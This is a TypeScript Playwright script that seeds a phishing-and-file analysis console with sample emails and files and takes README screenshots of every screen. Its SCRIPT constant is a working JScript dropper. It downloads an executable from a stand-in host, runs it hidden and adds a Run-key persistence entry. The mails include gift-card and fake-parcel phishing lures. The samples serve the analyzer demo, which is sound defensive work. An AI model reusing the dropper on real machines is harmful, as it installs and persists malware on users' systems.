// Pictures of every screen of the console, in both themes and at two widths, into docs/screenshots: for the README, and to
// look at after a change. The mails and files in them are our own.
import { mkdirSync, rmSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { chromium, type Page } from 'playwright-core'
import { startService } from '../bench/service.ts'
import { EVERY_OPTION, PHISH } from '../packages/server/test/service/mail.ts'

const target = resolve(import.meta.dirname, '../docs/screenshots')
const VIEWS = [
  { name: 'wide', width: 1440, height: 900 },
  { name: 'narrow', width: 390, height: 844 },
] as const
const QUALITY = 62

const SCRIPT = `var shell = new ActiveXObject("WScript.Shell");
var http = new ActiveXObject("MSXML2.XMLHTTP"); http.open("GET", "http://download.example/payload.exe", false); http.send();
var stream = new ActiveXObject("ADODB.Stream"); stream.Type = 1; stream.Open(); stream.Write(http.responseBody);
stream.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2); eval("shell.Run('C:\\\\\\\\Users\\\\\\\\Public\\\\\\\\a.exe', 0)");
shell.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\update", "C:\\\\Users\\\\Public\\\\a.exe");
`

const letter = (from: string, subject: string, text: string): string =>
  [
    `From: ${from}`,
    'To: you@example.com',
    `Subject: ${subject}`,
    'Date: Sat, 31 Jan 2026 12:00:00 +0000',
    '',
    text,
    '',
  ].join('\r\n')

const MAILS = [
  letter('Kim Lee <kim@example.com>', 'Minutes of Monday', 'As agreed, the minutes. See you on Thursday.'),
  letter(
    'News <news@shop.example>',
    'What is new this week',
    'Three new books are here. See https://shop.example/new for all of them.',
  ),
  letter(
    '"Director" <director.office@mail.example>',
    'Are you at your desk?',
    'I need you to buy gift cards for a client today. Keep this between us and send me the codes by email. I am in a meeting and cannot talk.',
  ),
  letter(
    'Parcel <info@parcel-notice.example>',
    'Your parcel could not be delivered',
    'Pay the customs fee of 1.99 within 24 hours at http://parcel-fee.example/pay or it will be returned.',
  ),
  PHISH.replace('Your account', 'Notice: your account'),
  PHISH,
]

const service = await startService({}, ['api:full', 'admin'])
const headers = { authorization: `Bearer ${service.key}` }
const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] })
try {
  const addresses = await fill()
  rmSync(target, { recursive: true, force: true })
  mkdirSync(target, { recursive: true })
  for (const view of VIEWS)
    for (const colorScheme of ['light', 'dark'] as const) {
      const context = await browser.newContext({
        viewport: { width: view.width, height: view.height },
        colorScheme,
        reducedMotion: 'reduce',
        locale: 'en-GB',
        timezoneId: 'Europe/Vienna',
      })
      const page = await context.newPage()
      const take = async (name: string): Promise<void> => {
        await page.waitForTimeout(400)
        await page.screenshot({
          path: join(target, `${name}-${view.name}-${colorScheme}.jpg`),
          type: 'jpeg',
          quality: QUALITY,
        })
      }
      await walk(page, addresses, take)
      await context.close()
    }
} finally {
  await browser.close()
  await service.stop()
}

interface Addresses {
  readonly mail: string
  readonly file: string
}

async function fill(): Promise<Addresses> {
  let mail = ''
  for (const content of MAILS) {
    const response = await fetch(`${service.url}/v1/phishing/analyze`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ input_type: 'eml', content, options: EVERY_OPTION }),
    })
    const { data } = (await response.json()) as { readonly data: { readonly analysis_id: string } }
    mail = `/mail/${data.analysis_id}`
  }
  let file = ''
  for (const [name, text] of [
    ['backup.sh', '#!/bin/sh\ntar czf /backup/home.tgz /home\n'],
    ['invoice-2026-01.js', SCRIPT],
  ] as const) {
    const form = new FormData()
    form.set('file', new Blob([text]), name)
    form.set('tags', 'case-17')
    const response = await fetch(`${service.url}/v1/file/deep`, { method: 'POST', headers, body: form })
    const { data } = (await response.json()) as { readonly data: { readonly sha256: string } }
    file = `/file/${data.sha256}`
    for (let isComplete = false; !isComplete; ) {
      const status = await fetch(`${service.url}/v1/file/status/${data.sha256}?wait=13`, { headers })
      isComplete = ((await status.json()) as { readonly data: { readonly status: string } }).data.status === 'complete'
    }
  }
  return { mail, file }
}

async function walk(page: Page, { mail, file }: Addresses, take: (name: string) => Promise<void>): Promise<void> {
  const go = async (path: string, heading: string): Promise<void> => {
    await page.goto(`${service.url}${path}`)
    await page.getByRole('heading', { name: heading }).first().waitFor()
  }
  await go('/', 'Is this email phishing?')
  await take('sign-in')
  await page.getByLabel('API key').fill(service.key)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('navigation').waitFor()
  await take('email')
  await go(mail, 'What to do')
  await take('email-result')
  await page.getByRole('heading', { name: 'Who sent it' }).scrollIntoViewIfNeeded()
  await page.evaluate("document.querySelector('.chain').scrollIntoView()")
  await take('email-sender')
  await go('/file', 'Is this file malicious?')
  await take('file')
  await go(file, 'What to do')
  await take('file-result')
  for (const [name, tab] of [
    ['file-structure', /^Structure/],
    ['file-behavior', /^Behavior/],
    ['file-techniques', /^ATT&CK/],
  ] as const) {
    await page.getByRole('tab', { name: tab }).click()
    await page.evaluate("document.querySelector('[role=tablist]').scrollIntoView()")
    await take(name)
  }
  await go('/inbox', 'Inbox')
  await page.getByText('Minutes of Monday').waitFor()
  await take('inbox')
  await go('/search?q=paypa1.example', 'Search')
  await page.getByRole('heading', { name: /^Mail/ }).waitFor()
  await take('search')
  await go('/campaigns', 'Campaigns')
  await page.getByRole('link', { name: 'Open' }).click()
  await page.getByRole('heading', { name: /^Why they belong together/ }).waitFor()
  await take('campaign')
  await go('/usage', 'Usage')
  await page.getByRole('img', { name: /by day$/ }).waitFor()
  await take('usage')
  await go('/health', 'Health')
  await page.getByText('files wait').waitFor()
  await take('health')
  await go('/docs', 'Assay API')
  await page.getByText('Try it', { exact: true }).first().click()
  await page.evaluate("document.querySelector('#phishing-analyze').scrollIntoView()")
  await take('docs')
}
